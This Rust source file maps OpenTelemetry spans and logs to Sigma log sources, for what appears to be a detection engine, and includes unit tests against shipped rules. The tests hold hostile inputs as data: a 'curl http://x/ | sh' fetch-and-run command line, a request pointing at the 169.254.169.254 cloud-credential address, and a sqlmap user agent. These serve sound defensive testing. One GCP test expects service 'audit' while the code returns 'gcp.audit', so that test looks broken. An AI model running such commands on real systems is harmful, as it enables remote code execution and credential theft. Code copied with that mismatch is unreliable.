//! Signals of OpenTelemetry as events of Sigma's sources.

use serde_json::{Map, Value};

use super::logsource::LogSource;

/// What a span is to the function that made it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SpanKind {
    /// It answers a request.
    Server,
    /// It asks somebody else.
    Client,
    /// Anything else.
    Other,
}

/// An event and the sources that it is of.
#[derive(Debug, Clone, PartialEq)]
pub struct Signal {
    /// The sources; rules of any of them look at it.
    pub sources: Vec<LogSource>,
    /// Its fields: attributes under their names, a log's body as `body`.
    pub event: Value,
}

/// A span: a request answered is an event of a web server, a request made one of a proxy. Where the
/// attributes name a process, it is an event of its creation too.
pub fn of_span(
    kind: SpanKind,
    mut attributes: Map<String, Value>,
    resource: &Map<String, Value>,
) -> Signal {
    let mut sources = Vec::new();
    let http = [
        "http.request.method",
        "http.method",
        "url.path",
        "url.full",
        "http.target",
    ];
    if http.iter().any(|name| attributes.contains_key(*name)) {
        match kind {
            SpanKind::Server => sources.push(category("webserver")),
            SpanKind::Client => sources.push(category("proxy")),
            SpanKind::Other => {}
        }
        whole_address(&mut attributes);
    }
    sources.extend(process(&attributes).or_else(|| process(resource)));
    sources.extend(application(&attributes, resource));
    inherit(&mut attributes, resource);
    Signal {
        sources,
        event: Value::Object(attributes),
    }
}

/// A log record: an entry of a cloud's or cluster's audit log by its shape, else of the application.
pub fn of_log(
    body: Value,
    mut attributes: Map<String, Value>,
    resource: &Map<String, Value>,
) -> Signal {
    let parsed = match &body {
        // A longer text is looked at as text alone.
        Value::String(text) if text.starts_with('{') && text.len() <= 1 << 20 => {
            serde_json::from_str::<Value>(text).ok()
        }
        _ => None,
    };
    let body = parsed.unwrap_or(body);
    let entry = body.get("detail").unwrap_or(&body);
    if let Some(source) = audit(entry) {
        return Signal {
            sources: vec![source],
            event: entry.clone(),
        };
    }
    let mut sources: Vec<LogSource> = process(&attributes).into_iter().collect();
    sources.extend(application(&attributes, resource));
    attributes.insert("body".to_owned(), body);
    inherit(&mut attributes, resource);
    Signal {
        sources,
        event: Value::Object(attributes),
    }
}

fn category(name: &str) -> LogSource {
    LogSource::new(Some(name), None, None)
}

/// Spans tell path and query apart; rules ask for both together.
fn whole_address(attributes: &mut Map<String, Value>) {
    let text = |name: &str| attributes.get(name).and_then(Value::as_str);
    if text("url.full").is_some() {
        return;
    }
    let Some(path) = text("url.path") else { return };
    let address = match text("url.query") {
        Some(query) if !query.is_empty() => format!("{path}?{}", query.trim_start_matches('?')),
        _ => path.to_owned(),
    };
    attributes.insert("url.full".to_owned(), address.into());
}

/// What rules ask of the process stands on the resource.
fn inherit(attributes: &mut Map<String, Value>, resource: &Map<String, Value>) {
    for (name, value) in resource {
        if name.starts_with("process.") && !attributes.contains_key(name) {
            attributes.insert(name.clone(), value.clone());
        }
    }
}

fn process(attributes: &Map<String, Value>) -> Option<LogSource> {
    let named = ["process.command_line", "process.executable.path"];
    let any = named.iter().any(|name| attributes.contains_key(*name));
    let system = attributes
        .get("os.type")
        .and_then(Value::as_str)
        .unwrap_or("linux");
    any.then(|| LogSource::new(Some("process_creation"), Some(system), None))
}

/// Rules over applications name languages and frameworks; of these only the language is known.
fn application(attributes: &Map<String, Value>, resource: &Map<String, Value>) -> Vec<LogSource> {
    let name = "telemetry.sdk.language";
    let language = resource.get(name).or_else(|| attributes.get(name));
    let language = language.and_then(Value::as_str);
    let products: &[&str] = match language {
        Some("java") => &["jvm", "spring", "velocity", "sql"],
        Some("python") => &["python", "django", "sql"],
        Some("nodejs") => &["nodejs", "sql"],
        Some("ruby") => &["ruby_on_rails", "sql"],
        Some("dotnet" | "php" | "go") => &["sql"],
        _ => &[
            "jvm",
            "spring",
            "velocity",
            "python",
            "django",
            "nodejs",
            "ruby_on_rails",
            "sql",
        ],
    };
    let source = |product: &&str| LogSource::new(Some("application"), Some(product), None);
    products.iter().map(source).collect()
}

/// The audit log that an entry is of.
fn audit(entry: &Value) -> Option<LogSource> {
    let text = |name: &str| entry.get(name).and_then(Value::as_str);
    let source = |product: &str, service: &str| {
        Some(LogSource::new(Some("audit"), Some(product), Some(service)))
    };
    if text("eventSource").is_some()
        && text("eventName").is_some()
        && entry.get("eventVersion").is_some()
    {
        return source("aws", "cloudtrail");
    }
    if entry
        .get("protoPayload")
        .is_some_and(|payload| payload.get("methodName").is_some())
    {
        return source("gcp", "gcp.audit");
    }
    if text("apiVersion").is_some_and(|version| version.starts_with("audit.k8s.io/")) {
        // SigmaHQ counts these among applications.
        return Some(LogSource::new(
            Some("application"),
            Some("kubernetes"),
            Some("audit"),
        ));
    }
    let of_azure = entry.get("operationName").is_some()
        && ["resourceId", "tenantId", "correlationId"]
            .iter()
            .any(|name| entry.get(*name).is_some());
    match text("category") {
        Some("SignInLogs" | "NonInteractiveUserSignInLogs" | "ServicePrincipalSignInLogs") => {
            source("azure", "signinlogs")
        }
        Some("AuditLogs") => source("azure", "auditlogs"),
        Some("UserRiskEvents" | "RiskyUsers") => source("azure", "riskdetection"),
        _ if of_azure => source("azure", "activitylogs"),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Aliases, RuleSet};
    use super::*;
    use serde_json::json;

    fn map(value: Value) -> Map<String, Value> {
        value.as_object().cloned().unwrap_or_default()
    }

    /// Titles of the shipped rules that match.
    fn found(signal: &Signal) -> Vec<String> {
        let aliases = Aliases::shipped().expect("sound");
        let set = RuleSet::shipped(Some(&aliases)).expect("sound");
        let matched = set.matches(&signal.sources, &signal.event);
        matched
            .rules
            .iter()
            .map(|rule| rule.header.title.clone())
            .collect()
    }

    #[test]
    fn a_span_of_a_server_is_an_event_of_a_web_server() {
        let attributes = json!({
            "http.request.method": "GET", "url.path": "/fetch",
            "url.query": "u=http://169.254.169.254/", "user_agent.original": "sqlmap/1.8",
        });
        let resource = map(
            json!({"telemetry.sdk.language": "java", "process.command_line": "java -jar a.jar"}),
        );
        let signal = of_span(SpanKind::Server, map(attributes.clone()), &resource);
        assert_eq!(signal.event["url.full"], "/fetch?u=http://169.254.169.254/");
        assert_eq!(
            found(&signal),
            [
                "Address of cloud credentials in a request",
                "Scanner names itself"
            ]
        );
        let client = of_span(SpanKind::Client, map(attributes), &resource);
        assert!(client.sources.contains(&category("proxy")) && found(&client).is_empty());
    }

    #[test]
    fn processes_and_texts_of_logs_are_seen() {
        let span = json!({"process.command_line": "sh -c curl http://x/ | sh"});
        let signal = of_span(SpanKind::Other, map(span), &Map::new());
        assert_eq!(
            found(&signal),
            ["Program fetched from the network and run at once"]
        );
        let log = of_log(json!("sh: 1: foo: not found"), Map::new(), &Map::new());
        assert_eq!(found(&log), ["Shell complains in a function's log"]);
        assert!(found(&of_log(json!("all is well"), Map::new(), &Map::new())).is_empty());
    }

    #[test]
    fn entries_of_audit_logs_are_known_by_their_shape() {
        let service = |body: Value| {
            let signal = of_log(body, Map::new(), &Map::new());
            let source = &signal.sources[0];
            (
                source.product.clone().unwrap_or_default(),
                source.service.clone().unwrap_or_default(),
            )
        };
        let pair = |product: &str, service: &str| (product.to_owned(), service.to_owned());
        let trail = json!({"eventVersion": "1.08", "eventSource": "s3.amazonaws.com", "eventName": "GetObject"});
        assert_eq!(service(trail.clone()), pair("aws", "cloudtrail"));
        assert_eq!(
            service(json!(trail.to_string())),
            pair("aws", "cloudtrail"),
            "as text"
        );
        assert_eq!(
            service(json!({"detail": trail})),
            pair("aws", "cloudtrail"),
            "wrapped"
        );
        assert_eq!(
            service(json!({"protoPayload": {"methodName": "x"}})),
            pair("gcp", "audit")
        );
        let cluster = json!({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "verb": "get"});
        assert_eq!(service(cluster), pair("kubernetes", "audit"));
        let sign_in = json!({"category": "SignInLogs", "operationName": "Sign-in activity"});
        assert_eq!(service(sign_in), pair("azure", "signinlogs"));
        let activity =
            json!({"operationName": "X", "resourceId": "/s", "category": "Administrative"});
        assert_eq!(service(activity), pair("azure", "activitylogs"));
    }
}
